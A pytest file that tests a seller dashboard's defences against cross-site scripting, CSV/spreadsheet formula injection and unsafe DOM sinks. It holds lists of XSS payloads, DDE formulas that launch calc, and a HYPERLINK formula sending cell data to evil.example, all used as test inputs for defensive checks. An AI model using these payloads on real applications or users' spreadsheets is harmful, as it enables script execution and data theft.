"""Names that are programs: for a browser, for a spreadsheet, for a terminal. Kept as they are, and run nowhere."""

import csv
import io
import json
import re
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path

import pytest

from entrypoints.http.openapi import document
from entrypoints.http.page import FOLDER
from tests.attacks.belongings import Belongings
from tests.entrypoints.browsers import app_of, logged_in
from tests.fakes.things import a_level, an_order
from tests.fakes.world import World

SCRIPTS = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "'-alert(1)-'",
    "${alert(1)}",
    "{{constructor.constructor('alert(1)')()}}",
    "javascript:alert(1)",
    "]]>]]<script>",
    "\u2028alert(1)//",
]
FORMULAS = [
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    '=HYPERLINK("https://evil.example?x="&A1,"open")',
    "＝1+1",
    'a","=1+1',
    "a\n=1+1",
    "a;=1+1;",
    "a; @SUM(1)\tb",
    "a\t-1+1\t",
]
DOCUMENT = document(app_of(World()))
READ = [
    path
    for path, methods in DOCUMENT["paths"].items()
    if path.startswith("/api/") and "get" in methods and "{" not in path and path != "/api/v1/events"
]
#: Ways in which a text becomes a part of a page as it is.
SINKS = re.compile(
    r"\.(?:inner|outer)HTML|insertAdjacentHTML|dangerouslySetInnerHTML|document\.write|srcdoc|createContextualFragment"
    r"|\beval\s*\(|new\s+Function\s*\(|setHTMLUnsafe|DOMParser|\.parseFromString|setTimeout\(\s*[\"'`]|import\(\s*[^\"'`)]"
)


class House:
    """A seller whose products, orders, store, accounts and keys all have programs for names."""

    def __init__(self, names: list[str]) -> None:
        self.world = World()
        self.browser = logged_in(app_of(self.world), self.world.user)
        Belongings.of(self.world, self.world.user)
        (seller,) = self.world.services.connections.of(self.world.user.id)
        self.world.stock(seller, *(replace(a_level(name), title=name) for name in names))
        for name in names:
            self.world.sell(seller, an_order(name))
            self.browser.post("/api/v1/auth/api-keys", json={"name": name})
        (account, *_rest) = self.browser.get("/api/v1/accounts").json["items"]
        self.account = account["id"]


@pytest.fixture(scope="module")
def scripted() -> House:
    return House(SCRIPTS)


@pytest.fixture(scope="module")
def calculated() -> House:
    return House(FORMULAS)


@pytest.mark.parametrize("path", READ)
@pytest.mark.parametrize(
    "accept", ["application/json", "text/html,*/*;q=0.8", "text/csv,text/html;q=0.9,*/*;q=0.1"]
)
def test_no_answer_of_the_api_can_be_taken_for_a_page(scripted, path, accept):
    answer = scripted.browser.get(path, headers={"Accept": accept}, buffered=True)

    assert answer.mimetype in ("application/json", "text/csv", "text/html")
    assert answer.mimetype != "text/html" or not answer.get_data() or answer.status_code == 302
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert answer.headers["Content-Security-Policy"] == "default-src 'none'; frame-ancestors 'none'"
    if answer.mimetype == "text/csv":
        assert answer.headers["Content-Disposition"].startswith("attachment")


@pytest.mark.parametrize("name", SCRIPTS)
def test_a_name_comes_back_as_it_is_and_as_data(scripted, name):
    listed = scripted.browser.get("/api/v1/dashboard/amazon-inventory/items?limit=200")

    titles = {each["title"] for each in json.loads(listed.get_data())["data"]["items"]}

    assert name in titles


def test_what_is_in_the_address_of_an_error_is_not_repeated_as_a_page(scripted):
    for script in SCRIPTS:
        answer = scripted.browser.get(f"/{script}", headers={"Accept": "text/html"})

        assert (answer.status_code, answer.mimetype) == (404, "application/json")
        assert "alert(1)" not in answer.get_data(as_text=True)


@pytest.mark.parametrize("name", FORMULAS)
def test_no_cell_of_a_table_is_a_formula(calculated, name):
    answer = calculated.browser.get(
        "/api/v1/dashboard/amazon-inventory/items", headers={"Accept": "text/csv"}, buffered=True
    )

    rows = list(csv.DictReader(io.StringIO(answer.get_data(as_text=True), newline="")))

    assert any(row["title"].replace("'", "") == name.replace("'", "") for row in rows)
    assert [row for row in rows if re.match(r"\s*[=+\-@＝＋－＠]|[\t\r\n]", row["title"])] == []
    assert [row for row in rows if re.match(r"\s*[=+\-@＝＋－＠]|[\t\r\n]", row["sku"])] == []


@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_whatever_a_spreadsheet_takes_for_the_separator_no_formula_comes_of_it(calculated, separator):
    answer = calculated.browser.get(
        "/api/v1/dashboard/amazon-inventory/items", headers={"Accept": "text/csv"}, buffered=True
    )
    text = answer.get_data(as_text=True)

    cells = [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator) for cell in row]

    running = [cell for cell in cells if cell.lstrip()[:1] in set("=+@＝＋＠") and cell.strip() != ""]
    assert running == []


@pytest.mark.parametrize("file", sorted(FOLDER.glob("*.js")), ids=lambda file: file.name)
def test_the_page_never_takes_a_text_for_a_part_of_itself(file: Path):
    assert SINKS.findall(file.read_text("utf-8")) == []


class _Document(HTMLParser):
    """What runs in a document by itself."""

    def __init__(self) -> None:
        super().__init__()
        self.inline: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._in_script = tag == "script"
        self.inline += [name for name, _value in attrs if name.startswith("on") or name == "style"]
        self.inline += [value for name, value in attrs if name in ("src", "href") and "//" in (value or "")]

    def handle_data(self, data: str) -> None:
        if self._in_script and data.strip():
            self.inline.append(data)


@pytest.mark.parametrize("path", ["/", "/settings", "/login?next=%3Cscript%3E", "/docs"])
def test_no_document_runs_anything_that_stands_in_it(anonymous, path):
    answer = anonymous.get(path, buffered=True)
    found = _Document()
    found.feed(answer.get_data(as_text=True))

    policy = answer.headers["Content-Security-Policy"]

    assert found.inline == []
    assert "default-src 'none'" in policy
    script = next(each for each in policy.split(";") if each.strip().startswith("script-src"))
    assert "unsafe" not in script
    assert {"base-uri 'none'", "frame-ancestors 'none'"} <= {each.strip() for each in policy.split(";")}


@pytest.mark.parametrize("name", ["a\nb", "a\x1b[2Jb", "a\x00b", "a\u202eb", "a\x9bb", "\ud800"])
def test_names_that_nobody_can_read_are_refused(attacker, scripted, name):
    key = attacker.post(
        "/api/v1/auth/api-keys", data=json.dumps({"name": name}), content_type="application/json"
    )
    account = scripted.browser.patch(
        f"/api/v1/accounts/{scripted.account}",
        data=json.dumps({"account_name": name}),
        content_type="application/json",
    )

    assert (key.status_code, account.status_code) == (400, 400)
